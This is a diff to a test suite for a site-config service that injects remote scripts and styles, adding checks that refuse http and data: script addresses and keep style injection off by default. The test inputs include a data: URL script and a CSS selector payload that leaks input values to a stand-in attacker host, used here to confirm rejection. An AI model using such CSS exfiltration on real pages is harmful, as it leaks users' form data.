@@ -37,11 +37,14 @@ describe('SiteConfigService (SPEC §3, §7 group control)', () => {
   });
 
   it('loads an allow-listed script with the nonce, injects a style with the nonce, for matching pids', async () => {
-    const { service, scriptLoader, dom } = setup([
-      { action: 'inject-script', content: `${CDN}/a.js`, pids: ['home'] },
-      { action: 'inject-style', content: '.x{color:red}' },
-      { action: 'inject-style', content: '.other{}', pids: ['about'] },
-    ]);
+    const { service, scriptLoader, dom } = setup(
+      [
+        { action: 'inject-script', content: `${CDN}/a.js`, pids: ['home'] },
+        { action: 'inject-style', content: '.x{color:red}' },
+        { action: 'inject-style', content: '.other{}', pids: ['about'] },
+      ],
+      { allowInjectStyle: true },
+    );
     scriptLoader.succeed(`${CDN}/a.js`);
     const outcome = await service.apply();
     expect(outcome.failures).toEqual([]);
@@ -62,6 +65,28 @@ describe('SiteConfigService (SPEC §3, §7 group control)', () => {
     expect(scriptLoader.loads).toEqual([]);
   });
 
+  it('refuses plain http and data: script addresses, even on an allowed host', async () => {
+    const { service, scriptLoader, failures } = setup([
+      { action: 'inject-script', content: 'http://cdn.test/a.js' },
+      { action: 'inject-script', content: 'data:text/javascript,alert(1)' },
+    ]);
+    const outcome = await service.apply();
+    expect(outcome.applied).toEqual([]);
+    expect(failures.map((failure) => failure.reason)).toEqual(['origin-not-allowed', 'origin-not-allowed']);
+    expect(scriptLoader.loads).toEqual([]);
+  });
+
+  it('injects styles only when the page opts in', async () => {
+    const off = setup([{ action: 'inject-style', content: 'input[value^="1"]{background:url(https://evil.test/1)}' }]);
+    const refused = await off.service.apply();
+    expect(off.dom.records).toEqual([]);
+    expect(refused.applied).toEqual([]);
+    expect(off.failures.map((failure) => failure.reason)).toEqual(['inject-style-disabled']);
+    const on = setup([{ action: 'inject-style', content: '.x{}' }], { allowInjectStyle: true });
+    await on.service.apply();
+    expect(on.dom.records).toEqual([{ kind: 'style', text: '.x{}', attrs: { nonce: 'n0nce' } }]);
+  });
+
   it('runs run-script only when the page opts in', async () => {
     const off = setup([{ action: 'run-script', content: 'window.x = 1' }]);
     await off.service.apply();
@@ -73,7 +98,7 @@ describe('SiteConfigService (SPEC §3, §7 group control)', () => {
   });
 
   it('applies each action once across calls', async () => {
-    const { service, dom } = setup([{ action: 'inject-style', content: '.x{}' }]);
+    const { service, dom } = setup([{ action: 'inject-style', content: '.x{}' }], { allowInjectStyle: true });
     await service.apply();
     const second = await service.apply();
     expect(second.applied).toEqual([]);
@@ -89,7 +114,7 @@ describe('SiteConfigService (SPEC §3, §7 group control)', () => {
 
     const { service, scriptLoader, dom, failures } = setup(
       [{ action: 'eval', content: 'x' }, { action: 'inject-script', content: `${CDN}/b.js` }, { action: 'inject-style', content: '.y{}' }],
-      {},
+      { allowInjectStyle: true },
       [{ title: 'setting', content: '{not json' }, { title: 'banner', image_url: 'https://img.test/1.png' }],
     );
     scriptLoader.fail(`${CDN}/b.js`);
@@ -103,13 +128,22 @@ describe('SiteConfigService (SPEC §3, §7 group control)', () => {
     const { http } = createFakeHttp();
     const service = new SiteConfigService({ http, scriptLoader: new FakeScriptLoader(), dom: new FakeDomInjection() });
     expect(() => service.init({ contentOrigin: ORIGIN, scriptOrigins: ['https://cdn.test/path/'] })).toThrowError(expect.objectContaining({ code: 'INVALID_ARGUMENT' }));
+    expect(() => service.init({ contentOrigin: ORIGIN, scriptOrigins: ['http://cdn.test'] })).toThrowError(
+      expect.objectContaining({ code: 'INVALID_ARGUMENT', message: 'siteConfig scriptOrigins needs https origins like https://cdn.example.com, got http://cdn.test' }),
+    );
     await expect(service.apply()).rejects.toMatchObject({ code: 'NOT_INITIALIZED' });
+  });
+
+  it('allows a plain-http origin on localhost, for a development server', async () => {
+    const { service, scriptLoader } = setup([{ action: 'inject-script', content: 'http://127.0.0.1:5173/dev.js' }], { scriptOrigins: ['http://127.0.0.1:5173'] });
+    scriptLoader.succeed('http://127.0.0.1:5173/dev.js');
+    expect((await service.apply()).applied).toHaveLength(1);
   });
 });
 
 describe('kit.siteConfig', () => {
   it('applies on start with contentOrigin defaulting to apiOrigin', async () => {
-    const kit = createTestKit({ features: withFeatures(siteConfig({ pid: 'home' })), apiOrigin: 'https://api.test', routes: (fetchMock) =>
+    const kit = createTestKit({ features: withFeatures(siteConfig({ pid: 'home', allowInjectStyle: true })), apiOrigin: 'https://api.test', routes: (fetchMock) =>
         fetchMock.route('path:/site/api/v2/picture/search', {
           status: 200,
           body: { code: 0, data: { advertisements: [{ title: 'setting', content: '[{"action":"inject-style","content":"body{}","pids":["home"]}]' }] } },
